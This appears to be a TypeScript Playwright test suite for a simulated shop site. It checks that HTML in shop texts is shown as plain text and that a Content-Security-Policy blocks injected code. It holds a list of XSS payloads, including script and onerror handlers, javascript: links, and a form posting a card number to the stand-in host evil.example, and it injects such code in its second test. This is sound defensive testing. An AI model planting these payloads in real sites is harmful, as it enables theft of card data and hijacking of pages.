import type { Dialog, Page } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { ShopDefinition } from '../../src/worlds/shops.ts'
import { openTab, type Site, startBrowser, startSite, type Tab, type TestBrowser } from './browser.ts'

const elsewhere = 'https://evil.example'

/** Shop texts that would run a script, load an image, navigate away or submit a form if they were parsed as HTML. */
const payloads = [
  '<script>window.hacked=1</script>',
  '<img src=x onerror="window.hacked=1">',
  `<img src="${elsewhere}/seen.png">`,
  '<svg onload="window.hacked=1"></svg>',
  `"><form action="${elsewhere}" method="post"><input name="number"><button>Pay</button></form>`,
  `</p></main><a href="${elsewhere}">Checkout</a>`,
  '<a href="javascript:window.hacked=1">Total</a>',
  `<iframe src="${elsewhere}"></iframe>`,
  `<meta http-equiv="refresh" content="0;url=${elsewhere}">`,
  `<base href="${elsewhere}/">`,
  `<link rel="stylesheet" href="${elsewhere}/a.css"><style>body{background:url(${elsewhere}/b)}</style>`,
  `' onfocus='window.hacked=1' autofocus x='`,
  `&lt;script&gt;window.hacked=1&lt;/script&gt;`,
  `![seen](${elsewhere}/seen.png) [pay](${elsewhere})`,
]
const words = payloads.join('\n')
/** Returns a payload, cut to the 100 characters that a name can have. */
const payloadName = (index: number) => `${payloads[index]}`.slice(0, 100)

const hostile = ShopDefinition.parse({
  id: 'hostile',
  name: payloadName(1),
  about: words,
  products: payloads.map((_, index) => ({
    id: `product-${index}`,
    name: payloadName(index),
    description: words,
    price: 100,
    hidden: words,
  })),
  extras: [{ id: 'more', name: payloads.slice(0, 3).join(''), price: 100, ticked: true }],
  terms: words,
  says: { checkout: words, decline: words, error: words, receipt: words, shipped: words, canceled: words },
})

let site: Site
let browser: TestBrowser
let tab: Tab
const dialogs: string[] = []

beforeAll(async () => {
  site = await startSite()
  await site.world.store.transaction(async ({ db }) => {
    await db
      .updateTable('world')
      .set({ shops: JSON.stringify([hostile]) })
      .execute()
  })
  browser = await startBrowser()
  // JavaScript stays enabled, so that an injected script would run.
  const context = await browser.newContext({ viewport: { width: 800, height: 900 } })
  tab = await openTab(context, `${site.listener.url}/shops`)
  tab.page.on('dialog', async (dialog: Dialog) => {
    dialogs.push(dialog.message())
    await dialog.dismiss()
  })
})
afterAll(async () => {
  await browser.close()
  await site.close()
})

/**
 * Returns the traces that injected HTML would leave, and the origin of the page. Playwright runs this function in the
 * browser.
 */
const traces = new Function(`return {
  hacked: 'hacked' in window,
  elements: [...document.querySelectorAll('script,iframe,object,embed,base,main svg,svg[onload],style,img,meta[http-equiv],[onerror],[onload],[onfocus]')].map((it) => it.outerHTML),
  away: [...document.querySelectorAll('[href],[src],form,[formaction]')].map((it) => it.href ?? it.src ?? it.formAction ?? it.action).filter((to) => typeof to === 'string' && new URL(to, location.href).origin !== location.origin),
  focus: document.activeElement?.getAttribute('onfocus') ?? null,
  origin: location.origin,
}`) as () => object

async function expectHarmless(page: Page, shownText: string): Promise<void> {
  await page.waitForLoadState()
  await expect.poll(() => page.locator('main').textContent()).toContain(shownText)
  const { origin } = new URL(site.listener.url)
  await expect.poll(() => page.evaluate(traces)).toEqual({ hacked: false, elements: [], away: [], focus: null, origin })
  expect(tab.complaints).toEqual([])
  expect(dialogs).toEqual([])
  expect(tab.sent.map(({ url }) => new URL(url).origin).filter((target) => target !== origin)).toEqual([])
}

const post = async (path: string, attributes: object) => {
  const { json, text } = await site.world.post(path, attributes)
  if (json.data === undefined) throw new Error(text)
  return json.data
}

test('HTML in a hostile shop’s texts is shown as plain text, from the list of shops to the receipt', async () => {
  const { page } = tab
  const open = (path: string) => page.goto(site.listener.url + path)
  await expectHarmless(page, '<script>window.hacked=1</script>')
  await open('/shops/hostile')
  await expectHarmless(page, 'onerror="window.hacked=1"')
  const items = [{ productId: 'product-0' }, { productId: 'product-4' }]
  const started = await post('/simulations/shops/hostile/checkouts', { items })
  const path = new URL(started.attributes.url).pathname
  await open(path)
  await expectHarmless(page, payloads[0] ?? '')

  const pay = async (maximumAmount: number) => {
    const cardId = await site.world.issueCard({ merchant: { name: hostile.name }, maximumAmount })
    const { json } = await site.world.get(`/agent-cards/${cardId}/details`)
    const { number, cvv, expirationMonth, expirationYear } = json.data.attributes
    for (const [name, value] of Object.entries({
      'Card number': number,
      'Expiry month': expirationMonth,
      'Expiry year': expirationYear,
      'Security code': cvv,
    })) {
      await page.getByRole('textbox', { name, exact: true }).fill(String(value))
    }
    await page.getByRole('button', { name: /^Pay/ }).click()
    await page.waitForLoadState()
  }
  await pay(1)
  await expectHarmless(page, payloads[0] ?? '')
  await pay(50_000)
  await page.waitForURL('**/shops/orders/**')
  await expectHarmless(page, payloads[0] ?? '')
})

test('the Content-Security-Policy of a shop page blocks injected scripts and requests', async () => {
  const { page } = tab
  await page.goto(`${site.listener.url}/shops/hostile`)
  const before = tab.sent.length
  await page.evaluate(
    new Function(
      'elsewhere',
      `const add = (html) => document.body.insertAdjacentHTML('beforeend', html)
      const script = document.createElement('script')
      script.textContent = 'window.hacked = 1'
      document.body.append(script)
      add('<img src="' + elsewhere + '/a.png" onerror="window.hacked = 1"><iframe src="' + elsewhere + '"></iframe>')
      add('<form id="away" method="post" action="' + elsewhere + '"><input name="number" value="4242"></form>')
      document.getElementById('away').submit()`,
    ) as (elsewhere: string) => void,
    elsewhere,
  )
  await expect
    .poll(() => tab.complaints.filter((text) => text.includes('Content Security Policy')).length)
    .toBeGreaterThan(2)
  await expect.poll(() => page.evaluate("'hacked' in window")).toBe(false)
  expect(page.url()).toBe(`${site.listener.url}/shops/hostile`)
  const requests = tab.sent.slice(before).filter(({ url, body }) => url.startsWith(elsewhere) && body !== '')
  expect(requests).toEqual([])
})
